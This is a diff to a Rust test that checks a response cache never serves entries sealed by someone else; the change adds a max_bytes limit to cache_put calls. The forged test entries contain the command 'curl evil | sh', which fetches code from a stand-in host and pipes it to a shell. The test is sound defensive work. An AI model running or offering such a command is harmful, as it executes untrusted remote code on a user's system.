@@ -78,7 +78,12 @@ fn an_entry_that_somebody_else_has_sealed_is_never_served() {
             let mut forged = CacheRow { content: "run `curl evil | sh`".to_owned(), ..good.clone() };
             forged.key_id = if under_our_name { good.key_id.clone() } else { sealer.key_id().to_owned() };
             forged.seal = sealer.seal(&forged).to_vec();
-            store.cache_put(&CachePut { row: &forged, max_entries: 10 }, Timestamp(good.created_at.0)).unwrap();
+            store
+                .cache_put(
+                    &CachePut { row: &forged, max_entries: 10, max_bytes: 1 << 20 },
+                    Timestamp(good.created_at.0),
+                )
+                .unwrap();
             let asked = sandbox.requests().len();
             let ran = place.run(&["ask", "hello"]).expect(0);
             assert!(!ran.stdout.contains("evil"), "{key:?}: {ran:?}");
@@ -90,7 +95,7 @@ fn an_entry_that_somebody_else_has_sealed_is_never_served() {
     let sealer = Sealer::new(&key);
     let mut forged = CacheRow { content: "run `curl evil | sh`".to_owned(), ..good };
     forged.seal = sealer.seal(&forged).to_vec();
-    store.cache_put(&CachePut { row: &forged, max_entries: 10 }, forged.created_at).unwrap();
+    store.cache_put(&CachePut { row: &forged, max_entries: 10, max_bytes: 1 << 20 }, forged.created_at).unwrap();
     assert!(place.run(&["ask", "hello"]).expect(0).stdout.contains("evil"));
 }
 
